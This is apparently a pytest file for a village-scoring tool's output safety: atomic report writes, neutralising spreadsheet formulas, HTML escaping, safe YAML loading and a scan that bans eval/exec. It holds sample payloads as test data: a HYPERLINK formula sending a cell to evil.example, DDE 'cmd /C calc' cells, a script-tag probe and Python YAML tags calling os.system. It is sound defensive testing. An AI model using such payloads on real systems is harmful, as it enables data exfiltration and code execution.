"""Safe outputs (``villagescore.outputs``) and the safety rules around them (DESIGN §9).

- reports are written atomically: a failed run never damages an existing report;
- text cells that a spreadsheet would run as a formula are neutralised in CSV and XLSX,
  and HTML escapes every text it did not generate;
- YAML is loaded safely (no Python tags, no aliases) and input files have size limits
  with clear messages;
- no module of ``src/`` or ``plugins/`` evaluates code from anywhere (``eval``/``exec``…).
"""

from __future__ import annotations

import ast
import csv
import io
import os
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.corpus.harness import REPO, TOY_CSV, TOY_FRAMEWORK, run_cli, toy_registry
from villagescore import datasets, framework, outputs
from villagescore.errors import EXIT_INVALID, EXIT_OK, DatasetError, FrameworkError, OutputError
from villagescore.outputs import FORMULA_PREFIXES, atomic_write, csv_bytes, neutralise

OLD_REPORT = b"village_id,overall_score\nv1,88.3333\n"


@pytest.fixture(scope="module")
def registry():
    return toy_registry()


@pytest.fixture
def existing_report(tmp_path) -> Path:
    path = tmp_path / "report.csv"
    path.write_bytes(OLD_REPORT)
    return path


def _leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.endswith(".tmp"))


# ---- atomic writes ----


def test_atomic_write_replaces_the_whole_file(existing_report):
    atomic_write(existing_report, b"new content\n")

    assert existing_report.read_bytes() == b"new content\n"
    assert _leftovers(existing_report.parent) == []


@pytest.mark.parametrize("failing", ["fsync", "replace"])
def test_atomic_write_failing_mid_way_leaves_the_old_file_and_no_temp_file(existing_report, monkeypatch, failing):
    def boom(*args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, failing, boom)

    with pytest.raises(OutputError, match="cannot write .*report.csv: no space left on the disk"):
        atomic_write(existing_report, b"half a report")

    assert existing_report.read_bytes() == OLD_REPORT
    assert _leftovers(existing_report.parent) == []


def test_a_file_size_limit_keeps_the_old_report_and_says_so_in_the_runs_language(existing_report, monkeypatch):
    # `ulimit -f 200`: the write fails with EFBIG (Python ignores SIGXFSZ); a Vietnamese run said "File too large"
    def too_large(*args, **kwargs):
        raise OSError(27, "File too large")

    monkeypatch.setattr(os, "fsync", too_large)
    with pytest.raises(OutputError) as info:
        atomic_write(existing_report, b"a report too large")
    assert "a limit such as `ulimit -f`); the file already there is kept as it was" in str(info.value)
    assert info.value.text("vi").endswith("(một giới hạn như `ulimit -f`); tệp đã có vẫn được giữ nguyên như trước")
    assert existing_report.read_bytes() == OLD_REPORT
    assert _leftovers(existing_report.parent) == []


def test_an_existing_file_on_a_read_only_mount_says_the_disk_is_read_only(existing_report, monkeypatch):
    # chmod cannot make a file on a read-only file system writable: "make it writable" was the wrong advice
    real_statvfs = os.statvfs

    class ReadOnlyMount:
        def __init__(self, real):
            self.f_flag = real.f_flag | os.ST_RDONLY

    monkeypatch.setattr(os, "statvfs", lambda path: ReadOnlyMount(real_statvfs(path)))
    with pytest.raises(OutputError) as info:
        outputs.check_output_path(existing_report)
    assert str(info.value) == f"cannot write {existing_report}: the disk is read-only"
    assert "ổ đĩa chỉ cho phép đọc" in info.value.text("vi")


def test_atomic_write_gives_a_new_report_the_usual_permissions(tmp_path):
    # the temporary file used to keep mkstemp's private mode 0o600: a report colleagues could not read
    old = os.umask(0o022)
    try:
        atomic_write(tmp_path / "new.csv", b"x")
    finally:
        os.umask(old)
    assert (tmp_path / "new.csv").stat().st_mode & 0o777 == 0o644  # 0o666 minus the umask 0o022


def test_atomic_write_keeps_the_permissions_of_the_report_it_replaces(existing_report):
    existing_report.chmod(0o640)
    atomic_write(existing_report, b"new")
    assert existing_report.stat().st_mode & 0o777 == 0o640


def test_atomic_write_into_a_folder_it_cannot_write_is_a_clear_error(tmp_path, monkeypatch):
    real_open = os.open

    def denied(path, *args, **kwargs):
        if str(path).startswith(str(tmp_path)):
            raise PermissionError(13, "Permission denied")
        return real_open(path, *args, **kwargs)

    monkeypatch.setattr(os, "open", denied)  # as in a folder without write permission (tests run as root)
    # a PermissionError used to escape as a traceback (exit 3 instead of 1)
    with pytest.raises(OutputError, match="cannot write .*report.csv: permission denied"):
        atomic_write(tmp_path / "report.csv", b"x")


def test_atomic_write_into_a_missing_folder_is_a_clear_error(tmp_path):
    with pytest.raises(OutputError, match="folder .*nowhere does not exist"):
        atomic_write(tmp_path / "nowhere" / "report.csv", b"x")


def test_cli_invalid_dataset_leaves_existing_report_untouched(existing_report, registry, monkeypatch):
    monkeypatch.setenv("VILLAGESCORE_LANG", "en")  # the English messages
    bad = REPO / "tests" / "corpus" / "datasets" / "percent-over-100.csv"

    run = run_cli(["evaluate", bad, "-f", TOY_FRAMEWORK, "--format", "csv", "-o", existing_report], registry)

    assert run.exit_code == EXIT_INVALID
    assert "column 'a' = 180" in run.stderr
    assert existing_report.read_bytes() == OLD_REPORT
    assert _leftovers(existing_report.parent) == []


def test_cli_reporter_raising_leaves_existing_report_untouched(existing_report, registry, monkeypatch):
    import dataclasses

    def half_then_boom(result, lang):
        result.summary_frame(lang=lang)  # do some of the work, then fail
        raise RuntimeError("renderer crashed half-way")

    broken = dataclasses.replace(registry.reporters["csv"], render=half_then_boom, write=None)
    monkeypatch.setitem(registry.reporters, "csv", broken)

    run = run_cli(["evaluate", TOY_CSV, "-f", TOY_FRAMEWORK, "--format", "csv", "-o", existing_report], registry)

    assert run.exit_code != EXIT_OK
    assert existing_report.read_bytes() == OLD_REPORT
    assert _leftovers(existing_report.parent) == []


def test_cli_write_failing_mid_way_leaves_existing_report_untouched(existing_report, registry, monkeypatch):
    def disk_full(fd):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", disk_full)
    monkeypatch.setenv("VILLAGESCORE_LANG", "en")

    run = run_cli(["evaluate", TOY_CSV, "-f", TOY_FRAMEWORK, "--format", "csv", "-o", existing_report], registry)

    assert run.exit_code == EXIT_INVALID
    assert "cannot write" in run.stderr and "no space left on the disk" in run.stderr
    assert "Traceback" not in run.output
    assert existing_report.read_bytes() == OLD_REPORT
    assert _leftovers(existing_report.parent) == []


def test_cli_successful_run_replaces_the_report(existing_report, registry):
    run = run_cli(["evaluate", TOY_CSV, "-f", TOY_FRAMEWORK, "--format", "csv", "-o", existing_report], registry)

    assert run.exit_code == EXIT_OK, run.output
    text = existing_report.read_bytes().decode("utf-8-sig")
    assert text.splitlines()[1].startswith("v1,Làng Một,")
    assert _leftovers(existing_report.parent) == []


# ---- spreadsheet formula injection ----

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")',
    "commune": "+cmd|' /C calc'!A0",
    "province": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_neutralise_prefixes_every_formula_start(prefix):
    assert neutralise(prefix + "1+1") == "'" + prefix + "1+1"


@pytest.mark.parametrize("value", ["Làng Một", "", "1+1", "a=b", " =1", 42, -5.5, None])
def test_neutralise_leaves_other_values_alone(value):
    assert neutralise(value) == value


def test_csv_bytes_neutralises_header_and_cells_and_keeps_numbers():
    data = csv_bytes(["=id", "score"], [["=1+1", -3.5], [None, 7]])

    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM so that Excel reads Vietnamese
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows == [["'=id", "score"], ["'=1+1", "-3.5"], ["", "7"]]


def _csv_bytes_of_rows(frame):
    """What the CSV report wrote before frame_csv_bytes: every row through the csv module."""
    rows = frame.astype(object).where(frame.notna(), None).itertuples(index=False, name=None)
    return csv_bytes(list(frame.columns), rows)


_PLAIN = ["Làng Một", "", " ", "=1+1", "+1", "-1", "@x", "\tx", "-", "'", "1e400", None]
_QUOTED = ["\rx", "a,b", 'say "hi"', "two\nlines", "x\x00y"]  # the csv module quotes (or refuses) these


@settings(max_examples=150, deadline=None, derandomize=True, database=None)
@given(st.data())
def test_frame_csv_bytes_writes_what_the_csv_module_writes(data):
    import numpy as np
    import pandas as pd

    n = data.draw(st.integers(0, 6))
    cells = _PLAIN + (_QUOTED if data.draw(st.booleans()) else [])
    floats = st.one_of(st.floats(allow_nan=True, allow_infinity=True), st.sampled_from([0.1, -0.0, 1e16, 37.9091]))
    columns = {
        "float": st.lists(floats, min_size=n, max_size=n).map(lambda v: pd.Series(v, dtype="float64")),
        "int": st.lists(st.integers(-10**12, 10**12), min_size=n, max_size=n).map(
            lambda v: pd.Series(v, dtype="int64")),
        "bool": st.lists(st.booleans(), min_size=n, max_size=n).map(lambda v: pd.Series(v, dtype=bool)),
        "nullable": st.lists(st.one_of(st.none(), st.integers(-5, 5)), min_size=n, max_size=n).map(
            lambda v: pd.Series(v, dtype="Int64")),
        "str": st.lists(st.sampled_from(cells), min_size=n, max_size=n).map(lambda v: pd.Series(v, dtype="str")),
        "object": st.lists(st.one_of(st.sampled_from(cells), st.integers(-3, 3), floats, st.booleans()),
                           min_size=n, max_size=n).map(lambda v: pd.Series(v, dtype=object)),
    }
    kinds = data.draw(st.lists(st.sampled_from(sorted(columns)), min_size=0, max_size=5))
    names = data.draw(st.lists(st.sampled_from(["id", "=id", "score", "x", *(["a,b"] if len(cells) > 12 else [])]),
                               min_size=len(kinds),
                               max_size=len(kinds)))
    frame = pd.DataFrame({k: data.draw(columns[kind]).to_numpy() if kind in ("float", "int", "bool")
                          else data.draw(columns[kind]) for k, kind in enumerate(kinds)}, index=np.arange(n))
    frame.columns = names
    try:
        expected = _csv_bytes_of_rows(frame)
    except Exception as exc:  # the csv module refuses some cells (NUL): the fast writer must refuse them too
        with pytest.raises(type(exc)):
            outputs.frame_csv_bytes(frame)
        return
    assert outputs.frame_csv_bytes(frame) == expected
    _in_chunks_of(2, lambda: outputs.frame_csv_bytes(frame) == expected)


def test_write_frame_csv_shared_between_processes_writes_the_same_bytes(monkeypatch):
    import io

    import numpy as np
    import pandas as pd

    monkeypatch.setenv("VILLAGESCORE_WORKERS", "2")
    monkeypatch.setattr(outputs, "CSV_ROWS", 3)
    n = 40
    names = np.array([f"Làng {i}" for i in range(n)], dtype=object)
    names[17] = "a,b"  # the csv module quotes it: that chunk goes through the csv module
    names[25] = "=1+1"
    frame = pd.DataFrame({"id": names, "score": np.linspace(0, 1, n), "year": np.arange(n)})
    frame.loc[5, "score"] = np.nan
    handle = io.BytesIO()

    outputs.write_frame_csv(frame, handle)

    assert handle.getvalue() == _csv_bytes_of_rows(frame)
    assert b'"a,b"' in handle.getvalue() and b"'=1+1" in handle.getvalue()


def test_a_vietnamese_csv_reads_back_in_excel_s_vietnamese_settings_as_the_default_one_reads():
    import numpy as np
    import pandas as pd

    n = 30
    frame = pd.DataFrame({"id": [f"Làng {i}" for i in range(n)], "score": np.linspace(0, 100, n) / 3,
                          "year": np.arange(n), "gates": ["a;b" if i % 7 == 0 else "" for i in range(n)],
                          "mixed": pd.Series([0.5 if i % 2 else "x" for i in range(n)], dtype=object)})
    frame.loc[4, "score"] = np.nan
    for rows in (outputs.CSV_ROWS, 4):  # the column-by-column path, and chunks with a ';' cell through csv
        default, vi = io.BytesIO(), io.BytesIO()
        old, outputs.CSV_ROWS = outputs.CSV_ROWS, rows
        try:
            outputs.write_frame_csv(frame, default)
            outputs.write_frame_csv(frame, vi, locale="vi")
        finally:
            outputs.CSV_ROWS = old
        text = vi.getvalue().decode("utf-8-sig")
        assert text.splitlines()[0] == "id;score;year;gates;mixed" and ";33,333333333333336;" in text
        assert '"a;b"' in text and ";0,5" in text
        a = pd.read_csv(io.BytesIO(vi.getvalue()), sep=";", decimal=",", encoding="utf-8-sig", dtype={"mixed": str})
        b = pd.read_csv(io.BytesIO(default.getvalue()), encoding="utf-8-sig", dtype={"mixed": str})
        pd.testing.assert_frame_equal(a.drop(columns="mixed"), b.drop(columns="mixed"))
        assert a["mixed"].str.replace(",", ".").tolist() == b["mixed"].tolist()


def test_evaluate_writes_its_csv_for_excel_s_vietnamese_settings_when_asked(tmp_path):
    out = tmp_path / "r.csv"
    result = run_cli(["evaluate", str(TOY_CSV), "-f", str(TOY_FRAMEWORK), "--format", "csv", "--output-locale", "vi",
                      "-o", str(out)], registry=toy_registry())
    assert result.exit_code == EXIT_OK, result.output
    header, first = out.read_text(encoding="utf-8-sig").splitlines()[:2]
    assert header.startswith("village_id;name;") and ";88,3333;" in first


def _in_chunks_of(rows, check):
    """Run ``check`` with the frame writers formatting ``rows`` rows at a time."""
    old, outputs.CSV_ROWS = outputs.CSV_ROWS, rows
    try:
        assert check()
    finally:
        outputs.CSV_ROWS = old


@settings(max_examples=120, deadline=None, derandomize=True, database=None)
@given(st.data())
def test_to_csv_text_of_any_frame_of_these_types_is_what_pandas_writes(data):
    import pandas as pd

    n = data.draw(st.integers(0, 5))
    floats = st.one_of(st.sampled_from([0.0, -0.0, 1.5, 45.67, 1e16, 1e-05, 0.1]), st.floats(allow_infinity=True))
    text = st.sampled_from(["Làng", "a;b", "", " x ", "a,b", 'q"q', "-1", None])
    kinds = {
        "float": st.lists(floats, min_size=n, max_size=n).map(lambda v: pd.Series(v, dtype="float64")),
        "Int64": st.lists(st.one_of(st.none(), st.integers(-9, 9)), min_size=n, max_size=n).map(
            lambda v: pd.Series(v, dtype="Int64")),
        "int": st.lists(st.integers(-9, 2**40), min_size=n, max_size=n).map(lambda v: pd.Series(v, dtype="int64")),
        "str": st.lists(text, min_size=n, max_size=n).map(lambda v: pd.Series(v, dtype="str")),
        "object": st.lists(st.one_of(text, floats), min_size=n, max_size=n).map(lambda v: pd.Series(v, dtype=object)),
        "bool": st.lists(st.booleans(), min_size=n, max_size=n).map(lambda v: pd.Series(v, dtype=bool)),
    }
    chosen = data.draw(st.lists(st.sampled_from(sorted(kinds)), max_size=5))
    frame = pd.DataFrame({f"c{k}": data.draw(kinds[kind]) for k, kind in enumerate(chosen)}, index=range(n))
    assert outputs.to_csv_text(frame) == frame.to_csv(index=False, lineterminator="\n")
    _in_chunks_of(2, lambda: outputs.to_csv_text(frame) == frame.to_csv(index=False, lineterminator="\n"))


def _hostile_dataset(folder: Path) -> Path:
    text = TOY_CSV.read_text(encoding="utf-8")
    for column, value in HOSTILE.items():
        original = {"name": "Làng Một", "commune": "Xã Một", "province": "Hà Nội"}[column]
        quoted = '"' + value.replace('"', '""') + '"'
        text = text.replace(f",{original},", f",{quoted},", 1) if column != "name" else text.replace(
            f"v1,{original},", f"v1,{quoted},", 1)
    path = folder / "hostile.csv"
    path.write_text(text, encoding="utf-8")
    return path


def test_cli_csv_report_neutralises_formula_cells(tmp_path, registry):
    out = tmp_path / "out.csv"

    run = run_cli(["evaluate", _hostile_dataset(tmp_path), "-f", TOY_FRAMEWORK, "--format", "csv", "-o", out],
                  registry)

    assert run.exit_code == EXIT_OK, run.output
    rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))
    v1 = next(r for r in rows if r["village_id"] == "v1")
    for column, value in HOSTILE.items():
        assert v1[column] == "'" + value
    for row in rows:
        for cell in row.values():
            assert not (cell or "").startswith(FORMULA_PREFIXES), cell


def test_cli_xlsx_report_has_no_formula_and_neutralised_text(tmp_path, registry):
    if "xlsx" not in registry.reporters:
        pytest.skip("no XLSX reporter yet")
    from openpyxl import load_workbook

    out = tmp_path / "out.xlsx"
    run = run_cli(["evaluate", _hostile_dataset(tmp_path), "-f", TOY_FRAMEWORK, "--format", "xlsx", "-o", out],
                  registry)

    assert run.exit_code == EXIT_OK, run.output
    workbook = load_workbook(out)
    seen = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_PREFIXES), f"{sheet.title}!{cell.coordinate}"
                    seen.add(cell.value)
    assert "'" + HOSTILE["name"] in seen


def test_cli_html_report_escapes_text_from_the_data(tmp_path, registry):
    if "html" not in registry.reporters:
        pytest.skip("no HTML reporter yet")
    text = TOY_CSV.read_text(encoding="utf-8").replace("Làng Một", "<script>alert(1)</script>", 1)
    path = tmp_path / "script.csv"
    path.write_text(text, encoding="utf-8")
    out = tmp_path / "out.html"

    run = run_cli(["evaluate", path, "-f", TOY_FRAMEWORK, "--format", "html", "-o", out], registry)

    assert run.exit_code == EXIT_OK, run.output
    html = out.read_text(encoding="utf-8")
    assert "<script>alert(1)</script>" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


# ---- YAML loaded safely ----


@pytest.mark.parametrize("tag", ["!!python/object/apply:os.mkdir", "!!python/object/new:os.mkdir",
                                 "!!python/name:os.system", "!!python/object:pathlib.Path"])
def test_python_yaml_tags_are_refused_and_never_run(tmp_path, tag):
    marker = tmp_path / "pwned"
    path = tmp_path / "evil.yaml"
    path.write_text(TOY_FRAMEWORK.read_text(encoding="utf-8").replace(
        "status: example\n", f"status: {tag} [{str(marker)!r}]\n"), encoding="utf-8")

    with pytest.raises(FrameworkError) as caught:
        framework.load_framework_document(path)

    assert "could not determine a constructor" in str(caught.value)
    assert "evil.yaml" in str(caught.value)
    assert not marker.exists()


def test_yaml_on_off_yes_no_stay_strings():
    """YAML 1.1 would read an `on:` key as True: the loader keeps YAML 1.2 booleans only."""
    import yaml

    doc = yaml.load("on: value\nyes: no\nflag: true\n", Loader=framework.documents._yaml_loader())  # noqa: S506
    assert doc == {"on": "value", "yes": "no", "flag": True}


# ---- size limits ----


def test_framework_over_the_size_limit_is_refused_before_parsing(tmp_path, monkeypatch):
    monkeypatch.setattr(framework.documents, "MAX_FRAMEWORK_BYTES", 1000)
    path = tmp_path / "big.yaml"
    path.write_bytes(TOY_FRAMEWORK.read_bytes())  # ~1.6 kB

    limited = r"big.yaml: the file is [\d,]+ bytes; framework files are limited to 1,000"
    with pytest.raises(FrameworkError, match=limited):
        framework.load_framework_document(path)


def test_dataset_over_the_size_limit_is_refused_before_reading(tmp_path, monkeypatch, registry):
    monkeypatch.setenv("VILLAGESCORE_LANG", "en")  # the English messages
    monkeypatch.setattr(datasets.files, "MAX_DATASET_BYTES", 100)
    size = TOY_CSV.stat().st_size

    with pytest.raises(DatasetError, match=rf"toy.csv: the file is {size:,} bytes; datasets are limited to 100"):
        datasets.read_dataset(TOY_CSV, registry)

    run = run_cli(["evaluate", TOY_CSV, "-f", TOY_FRAMEWORK], registry)
    assert run.exit_code == EXIT_INVALID
    assert "datasets are limited to 100" in run.stderr


def test_workbook_unpacking_over_the_limit_is_refused(tmp_path, monkeypatch, registry):
    from tests.corpus.generate import toy_rows, write_xlsx

    path = write_xlsx(tmp_path / "toy.xlsx", toy_rows())
    monkeypatch.setattr(datasets.workbook, "MAX_XLSX_UNCOMPRESSED", 1000)

    with pytest.raises(DatasetError, match=r"toy.xlsx: the workbook unpacks to [\d,]+ bytes \(limit 1,000\)"):
        datasets.read_dataset(path, registry)


# ---- no evaluation of code ----

#: calls that run code or unpickle objects; attribute calls cover pandas' .eval/.query too
FORBIDDEN_NAMES = {"eval", "exec", "compile", "__import__"}
FORBIDDEN_ATTRS = {"eval", "query", "unsafe_load", "full_load", "load_all"}
UNSAFE_LOADERS = {"Loader", "UnsafeLoader", "FullLoader"}


def _python_files() -> list[Path]:
    files = sorted((REPO / "src").rglob("*.py")) + sorted((REPO / "plugins").rglob("*.py"))
    return [f for f in files if "scaffold_template" not in f.parts]


def _violations(path: Path) -> list[str]:
    tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            func = node.func
            if isinstance(func, ast.Name) and func.id in FORBIDDEN_NAMES:
                found.append(f"{path}:{node.lineno}: {func.id}(")
            if isinstance(func, ast.Attribute) and func.attr in FORBIDDEN_ATTRS:
                found.append(f"{path}:{node.lineno}: .{func.attr}(")
            for kw in node.keywords:
                if kw.arg == "Loader" and isinstance(kw.value, ast.Attribute) and kw.value.attr in UNSAFE_LOADERS:
                    found.append(f"{path}:{node.lineno}: Loader=yaml.{kw.value.attr}")
        if isinstance(node, (ast.Import, ast.ImportFrom)):
            names = [a.name for a in node.names] + ([node.module] if isinstance(node, ast.ImportFrom) else [])
            if any(n in ("pickle", "marshal", "shelve") for n in names if n):
                found.append(f"{path}:{node.lineno}: imports {names}")
    return found


def test_no_module_evaluates_code():
    files = _python_files()
    assert len(files) > 20  # the scan really covers the core and the plugins
    problems = [v for f in files for v in _violations(f)]
    assert problems == []


def test_the_scan_would_catch_an_eval(tmp_path):
    sample = tmp_path / "sample.py"
    sample.write_text("import yaml\nx = eval('1+1')\nframe.query('a > 1')\nyaml.load(s, Loader=yaml.Loader)\n")
    assert [v.split(": ", 1)[1] for v in _violations(sample)] == ["eval(", ".query(", "Loader=yaml.Loader"]


def test_outputs_module_is_what_the_writers_use():
    """The CLI writes through outputs.atomic_write (so the guarantees above hold for every format)."""
    source = (REPO / "src" / "villagescore" / "cli" / "options.py").read_text(encoding="utf-8")
    assert "atomic_write(output, data, keep_inputs=keep_inputs)" in source
    assert outputs.atomic_write is atomic_write


# ---- outputs that never destroy data (issue 17) ----


def test_a_symlink_keeps_being_a_link_and_its_target_is_replaced(existing_report):
    link = existing_report.parent / "latest.csv"
    link.symlink_to(existing_report.name)
    atomic_write(link, b"new\n")
    assert link.is_symlink()
    assert existing_report.read_bytes() == b"new\n"
    assert _leftovers(existing_report.parent) == []


def test_a_dangling_symlink_creates_its_target(tmp_path):
    link = tmp_path / "latest.csv"
    link.symlink_to("reports-2025.csv")
    atomic_write(link, b"new\n")
    assert link.is_symlink()
    assert (tmp_path / "reports-2025.csv").read_bytes() == b"new\n"


def test_a_fifo_is_written_in_place_not_replaced(tmp_path):
    import threading

    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    received = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()))
    reader.start()
    atomic_write(fifo, b"through the pipe\n")
    reader.join(timeout=10)
    assert received == [b"through the pipe\n"]
    assert fifo.is_fifo()


def test_devices_and_proc_paths_are_written_directly():
    assert outputs.is_special(Path("/dev/null"))
    assert outputs.is_special(Path("/dev/stdout"))
    atomic_write("/dev/null", b"discarded")
    assert Path("/dev/null").is_char_device()


@pytest.fixture
def shm_dir():
    """A folder on tmpfs under /dev/shm (a regular file there is an ordinary file), removed after the test."""
    import shutil
    import tempfile

    if not Path("/dev/shm").is_dir() or not os.access("/dev/shm", os.W_OK):
        pytest.skip("no writable /dev/shm here")
    folder = Path(tempfile.mkdtemp(dir="/dev/shm", prefix="villagescore-test-"))
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


def test_a_regular_file_under_dev_shm_is_replaced_whole_and_a_dataset_there_refused(shm_dir):
    """Audit (fourteenth walk): under /dev/shm, -o appended to the old report and to a dataset, not atomically."""
    report = shm_dir / "r.json"
    assert not outputs.is_special(report)  # a path that does not exist yet is never special
    atomic_write(report, b"first")
    atomic_write(report, b"second")
    assert report.read_bytes() == b"second"
    assert not outputs.is_special(report)
    dataset = shm_dir / "other-province.csv"
    dataset.write_bytes(TOY_CSV.read_bytes())
    with pytest.raises(OutputError, match="it is a dataset with village-year rows"):
        atomic_write(dataset, b"village_id,year,overall_score\n")
    assert dataset.read_bytes() == TOY_CSV.read_bytes()
    report.chmod(0o444)
    with pytest.raises(OutputError, match="the file is read-only"):
        atomic_write(report, b"third")
    assert report.read_bytes() == b"second"
    assert _leftovers(shm_dir) == []


def test_a_descriptors_name_is_special_even_when_it_leads_to_a_regular_file(tmp_path):
    """``/dev/fd/N`` of a regular file is appended to (a shell's ``>>``), never replaced by a new file."""
    target = tmp_path / "redirected.txt"
    target.write_bytes(b"before\n")
    with open(target, "ab") as handle:
        named = Path(f"/dev/fd/{handle.fileno()}")
        assert outputs.is_special(named)
        assert outputs.is_special(Path(f"/proc/self/fd/{handle.fileno()}"))
        atomic_write(named, b"after\n")
    assert target.read_bytes() == b"before\nafter\n"


def test_a_read_only_report_is_refused_and_kept(existing_report):
    existing_report.chmod(0o444)
    with pytest.raises(OutputError, match="the file is read-only, so it is not replaced"):
        atomic_write(existing_report, b"new")
    assert existing_report.read_bytes() == OLD_REPORT
    assert _leftovers(existing_report.parent) == []


def test_a_folder_as_output_is_refused(tmp_path):
    with pytest.raises(OutputError, match="it is a folder"):
        atomic_write(tmp_path, b"x")


def _input_copy(tmp_path: Path) -> tuple[Path, Path, Path]:
    """A copy of the toy dataset, its metadata sidecar and the toy framework in ``tmp_path``."""
    data = tmp_path / "survey.csv"
    data.write_bytes(TOY_CSV.read_bytes())
    meta = tmp_path / "survey.meta.json"
    meta.write_text('{"dataset": {"id": "s", "title": {"vi": "S", "en": "S"}, "kind": "illustrative"}, '
                    '"columns": {}}', encoding="utf-8")
    fw = tmp_path / "framework.yaml"
    fw.write_bytes(TOY_FRAMEWORK.read_bytes())
    return data, meta, fw


@pytest.mark.parametrize(("command", "target"), [
    ("evaluate", "survey.csv"), ("evaluate", "survey.meta.json"), ("evaluate", "link.csv"),
    ("export", "framework.yaml"),
])
def test_cli_refuses_to_write_over_any_input(tmp_path, registry, command, target):
    data, meta, fw = _input_copy(tmp_path)
    (tmp_path / "link.csv").symlink_to(data.name)
    before = {p: p.read_bytes() for p in (data, meta, fw)}
    out = tmp_path / target
    args = ["evaluate", data, "-f", fw] if command == "evaluate" else ["framework", "export", "-f", fw]

    run = run_cli([*args, "-o", out], registry)

    assert run.exit_code == EXIT_INVALID, run.output
    said = " ".join(run.stderr.split())  # in the default language, Vietnamese
    assert f"không ghi {out}: đây là tệp đầu vào của lệnh này" in said
    assert {p: p.read_bytes() for p in (data, meta, fw)} == before


def test_cli_dash_means_standard_output_even_for_a_binary_format(registry):
    run = run_cli(["evaluate", TOY_CSV, "-f", TOY_FRAMEWORK, "--format", "csv", "-o", "-"], registry)
    assert run.exit_code == EXIT_OK, run.output
    assert run.stdout.startswith("\ufeffvillage_id,")  # CSV keeps its BOM on standard output (--no-bom drops it)
    assert "wrote" not in run.stderr
    binary = run_cli(["evaluate", TOY_CSV, "-f", TOY_FRAMEWORK, "--format", "xlsx", "-o", "-"], registry)
    assert binary.exit_code == EXIT_OK, binary.output
    assert binary.stdout.startswith("PK")  # the zip signature of the workbook


@pytest.mark.parametrize(("name", "magic"), [("r.xlsx", b"PK"), ("r.json", b"{"), ("r.csv", b"\xef\xbb\xbfvillage_id"),
                                             ("r.html", b"<!DOCTYPE html>"), ("r.txt", b"")])
def test_cli_takes_the_format_from_the_output_suffix(tmp_path, registry, name, magic):
    out = tmp_path / name
    run = run_cli(["evaluate", TOY_CSV, "-f", TOY_FRAMEWORK, "-o", out], registry)
    assert run.exit_code == EXIT_OK, run.output
    assert out.read_bytes().startswith(magic)


@pytest.mark.parametrize("args", [
    ["evaluate", TOY_CSV, "-f", TOY_FRAMEWORK, "--format", "csv", "-o", "r.xlsx"],
    ["evaluate", TOY_CSV, "-f", TOY_FRAMEWORK, "--format", "table", "-o", "r.json"],
    ["explain", TOY_CSV, "-f", TOY_FRAMEWORK, "--village", "v1", "-o", "r.csv"],
    ["template", "-f", TOY_FRAMEWORK, "-o", "survey.csv"],
    ["framework", "export", "-f", TOY_FRAMEWORK, "--format", "json", "-o", "fw.yaml"],
])
def test_cli_refuses_a_format_that_contradicts_the_output_name(tmp_path, registry, args):
    args = [tmp_path / a if isinstance(a, str) and a.startswith(("r.", "survey.", "fw.")) else a for a in args]
    run = run_cli(args, registry)
    assert run.exit_code == 2, run.output
    assert "-o" in run.output
    assert not any(p.name.startswith(("r.", "survey.", "fw.")) for p in tmp_path.iterdir())


_SIGNAL_SCRIPT = """
import os, signal, sys
signal.signal(signal.SIGINT, signal.default_int_handler)  # as in a terminal, even when started as a background job
sys.path.insert(0, {repo!r})
from tests.corpus.harness import toy_registry, use_registry
from villagescore.cli import main
real_fsync = os.fsync
def fsync(fd):
    os.kill(os.getpid(), signal.{signal})   # the signal arrives while the report is being written
    real_fsync(fd)
os.fsync = fsync
with use_registry(toy_registry()):
    main(["evaluate", {data!r}, "-f", {framework!r}, "--format", "csv", "-o", {out!r}])
"""


@pytest.mark.parametrize(("sig", "code"), [("SIGTERM", 143), ("SIGINT", 130)])
def test_a_signal_while_writing_leaves_no_temporary_file_and_the_old_report(existing_report, sig, code):
    import subprocess
    import sys

    script = _SIGNAL_SCRIPT.format(repo=str(REPO), signal=sig, data=str(TOY_CSV), framework=str(TOY_FRAMEWORK),
                                   out=str(existing_report))
    proc = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=120, check=False)

    assert proc.returncode == code, proc.stderr
    assert "Traceback" not in proc.stderr
    assert existing_report.read_bytes() == OLD_REPORT
    assert _leftovers(existing_report.parent) == []


def test_ctrl_c_exits_130_in_process(existing_report, registry, monkeypatch):
    def interrupted(fd):
        raise KeyboardInterrupt

    monkeypatch.setattr(os, "fsync", interrupted)
    monkeypatch.setenv("VILLAGESCORE_LANG", "en")
    run = run_cli(["evaluate", TOY_CSV, "-f", TOY_FRAMEWORK, "--format", "csv", "-o", existing_report], registry)
    assert run.exit_code == 130
    assert "Interrupted." in run.stderr
    assert existing_report.read_bytes() == OLD_REPORT
    assert _leftovers(existing_report.parent) == []


_STDOUT_SCRIPT = """
import sys
sys.path.insert(0, {repo!r})
from tests.corpus.harness import toy_registry, use_registry
from villagescore.cli import main
with use_registry(toy_registry()):
    main(["evaluate", {data!r}, "-f", {framework!r}, "--format", "json", "-o", "/dev/stdout"])
"""


def test_writing_to_dev_stdout_keeps_the_link_and_prints_the_report():
    import subprocess
    import sys

    link = os.path.islink("/dev/stdout")
    script = _STDOUT_SCRIPT.format(repo=str(REPO), data=str(TOY_CSV), framework=str(TOY_FRAMEWORK))
    proc = subprocess.run([sys.executable, "-c", script], capture_output=True, timeout=120, check=False)
    assert proc.returncode == 0, proc.stderr
